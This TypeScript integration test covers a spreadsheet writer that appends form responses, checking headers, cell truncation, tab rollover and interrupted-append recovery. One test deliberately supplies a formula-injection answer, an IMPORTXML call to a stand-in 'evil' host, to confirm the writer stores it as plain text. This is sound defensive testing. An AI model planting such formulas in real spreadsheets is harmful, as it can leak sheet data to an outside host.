import { runMigrations } from '@collect/database';
import { Pool } from 'pg';
import { postgresConnection, stackEnv } from '../../../../test/support/stack-env';
import { newForm, responsesOf } from '../../../test-connector/src/testing/responses';
import { EmulatorHarness } from '../sheets/testing/emulator-harness';
import { TRUNCATION_MARKER } from './cell-text';
import { SheetWriter } from './sheet-writer';
import { SpreadsheetLocks } from './spreadsheet-locks';
import type { ResponseSubmitted } from '@collect/events';
import type { SheetTargetConfig } from '../connector/sheet-target-config';

jest.setTimeout(60_000);

let emulator: EmulatorHarness;
let pool: Pool;

beforeAll(async () => {
  emulator = await EmulatorHarness.start();
  pool = new Pool({ ...postgresConnection(stackEnv()), max: 3 });
  await runMigrations(pool, {
    directory: 'apps/sheets-connector/migrations',
    table: 'sheets_connector_schema_migrations',
  });
});
afterAll(async () => {
  await emulator.stop();
  await pool.end();
});

function writer(tabCellLimit = 10_000_000): SheetWriter {
  return new SheetWriter(emulator.client, new SpreadsheetLocks(pool, { waitMs: 5_000 }), {
    tabCellLimit,
  });
}

/** Writes like the runtime calls: again with what is left while the writer continues later. */
async function writeAll(
  w: SheetWriter,
  config: SheetTargetConfig,
  responses: readonly ResponseSubmitted[],
): Promise<string[]> {
  const appended: string[] = [];
  let left = responses;
  for (let call = 0; call < 10; call++) {
    const result = await w.write(config, left);
    appended.push(...result.appended);
    left = left.filter((r) => !result.appended.includes(r.responseId));
    if (!result.continuesLater || left.length === 0) break;
  }
  return appended;
}

async function tab(spreadsheetId: string, title: string) {
  return (await emulator.client.readTail(spreadsheetId, title, 10_000)).map((row) => row.values);
}

describe('SheetWriter against the emulator', () => {
  it('writes the header once, rewrites it only when a column is added or retitled', async () => {
    const spreadsheetId = await emulator.newSpreadsheet();
    const config = { spreadsheetId, sheet: 'Responses' };
    const form = newForm();
    const before = await emulator.requestCount();
    await writeAll(writer(), config, responsesOf(form, 3));
    await writeAll(writer(), config, responsesOf(form, 3));
    // get + addSheet, get + header, 2 appends: the second write touched only its append.
    expect((await emulator.requestCount()) - before).toBeLessThanOrEqual(6);
    await writeAll(
      writer(),
      { ...config, columnTitles: { name: 'Your name' } },
      responsesOf(form, 1),
    );
    const rows = await tab(spreadsheetId, 'Responses');
    expect(rows[0]).toEqual(['responseId', 'submittedAt', 'Your name', 'income']);
    expect(rows).toHaveLength(8);
  });

  it('truncates a cell over 50,000 characters with a visible marker and keeps a formula as text', async () => {
    const spreadsheetId = await emulator.newSpreadsheet();
    const [response] = responsesOf(newForm(), 1);
    const long = {
      ...response!,
      answers: [
        { questionId: 'essay', value: 'y'.repeat(70_000) },
        { questionId: 'f', value: '=IMPORTXML("http://evil","//a")' },
      ],
    };
    const appended = await writeAll(writer(), { spreadsheetId, sheet: 'Responses' }, [long]);
    expect(appended).toEqual([long.responseId]);
    const [, row] = await tab(spreadsheetId, 'Responses');
    expect(String(row![2]).endsWith(TRUNCATION_MARKER)).toBe(true);
    expect(String(row![2])).toHaveLength(50_000);
    expect(row![3]).toBe('=IMPORTXML("http://evil","//a")');
  });

  it('continues in "<name> (2)" with the same header before a tab would pass the cell limit', async () => {
    const spreadsheetId = await emulator.newSpreadsheet();
    const config = { spreadsheetId, sheet: 'Responses' };
    const form = newForm();
    const small = writer(4 * 30); // 4 columns: 30 rows per tab including the header
    const first = responsesOf(form, 25);
    const second = responsesOf(form, 10);
    await writeAll(small, config, first);
    await writeAll(small, config, second);
    const one = await tab(spreadsheetId, 'Responses');
    const two = await tab(spreadsheetId, 'Responses (2)');
    expect(one[0]).toEqual(two[0]);
    expect(one.slice(1).map((r) => r[0])).toEqual(first.map((r) => r.responseId));
    expect(two.slice(1).map((r) => r[0])).toEqual(second.map((r) => r.responseId));
    const { rows } = await pool.query<{ note: string }>(
      'SELECT note FROM sheets_connector_layouts WHERE spreadsheet_id = $1',
      [spreadsheetId],
    );
    expect(rows[0]?.note).toContain('Responses (2)');
  });

  it('recognises the responseIds an interrupted append wrote, and only those', async () => {
    const spreadsheetId = await emulator.newSpreadsheet();
    const config = { spreadsheetId, sheet: 'Responses' };
    const [landed, lost] = [responsesOf(newForm(), 5), responsesOf(newForm(), 5)];
    await writeAll(writer(), config, landed);
    const ids = [...landed, ...lost].map((r) => r.responseId);
    expect(await writer().recognise(config, ids)).toEqual(landed.map((r) => r.responseId));
  });
});
